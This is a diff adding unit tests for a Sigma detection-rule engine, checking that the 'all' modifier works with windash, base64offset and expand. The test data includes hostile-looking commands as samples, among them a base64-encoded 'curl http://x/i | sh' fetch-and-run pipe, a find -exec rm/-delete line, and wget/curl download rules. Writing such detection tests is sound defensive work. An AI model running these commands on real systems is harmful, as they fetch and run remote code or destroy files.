@@ -145,6 +145,66 @@ class SigmaModifierTest {
         assertThat(fires(detection, exec("/usr/bin/python3", "python3 -c import socket"))).isFalse();
     }
 
+    /*
+     * 'all' links the listed values with AND; windash, base64offset and expand turn each value into several variants
+     * ("all possible permutation of strings", "three variants for shifts by zero to two bytes", "expand to value
+     * list"), which stay OR-ed: each listed value must match in some of its variants, not every variant of it.
+     */
+
+    @Test
+    void allWithWindashNeedsEachValueInSomeDashForm() {
+        String detection = """
+                selection:
+                    CommandLine|windash|contains|all:
+                        - ' -exec '
+                        - ' -delete'
+                condition: selection
+                """;
+        assertThat(fires(detection, exec("/usr/bin/find", "find . -exec rm {} ; -delete"))).isTrue();
+        assertThat(fires(detection, exec("/usr/bin/find", "find . /exec rm {} ; \u2013delete"))).isTrue();
+        assertThat(fires(detection, exec("/usr/bin/find", "find . -exec rm {} ;"))).isFalse();
+        assertThat(fires(detection, exec("/usr/bin/find", "find . -delete"))).isFalse();
+    }
+
+    @Test
+    void allWithBase64offsetNeedsEachValueAtSomeOffset() {
+        String detection = """
+                selection:
+                    CommandLine|base64offset|contains|all:
+                        - 'curl '
+                        - '| sh'
+                condition: selection
+                """;
+        for (String prefix : List.of("", "a", "ab")) {
+            String encoded = Base64.getEncoder().encodeToString((prefix + "curl http://x/i | sh")
+                    .getBytes(StandardCharsets.UTF_8));
+            assertThat(fires(detection, exec("/bin/sh", "sh -c echo " + encoded))).as("offset %d", prefix.length())
+                    .isTrue();
+        }
+        String half = Base64.getEncoder().encodeToString("curl http://x/i > out".getBytes(StandardCharsets.UTF_8));
+        assertThat(fires(detection, exec("/bin/sh", "sh -c echo " + half))).isFalse();
+    }
+
+    @Test
+    void allWithExpandNeedsEachValueInSomeExpansion() throws SigmaRuleException {
+        FieldMapping mapping = FieldMapping.defaults().withOverrides("mine.yaml", """
+                placeholders:
+                    fetchers: [curl, wget]
+                """);
+        String yaml = SigmaTestSupport.processRule("""
+                selection:
+                    CommandLine|expand|contains|all:
+                        - '%fetchers% '
+                        - ' -O '
+                condition: selection
+                """);
+        CompiledRuleSet rules = SigmaTestSupport.load(SigmaEngine.create(mapping), yaml);
+        assertThat(rules.match(exec("/usr/bin/wget", "wget -O /tmp/x http://x"))).hasSize(1);
+        assertThat(rules.match(exec("/usr/bin/curl", "curl -O http://x"))).hasSize(1);
+        assertThat(rules.match(exec("/usr/bin/wget", "wget http://x"))).isEmpty();
+        assertThat(rules.match(exec("/usr/bin/nc", "nc -O x"))).isEmpty();
+    }
+
     @Test
     void regexSearchesAnywhereAndIsCaseSensitiveByDefault() {
         String detection = """
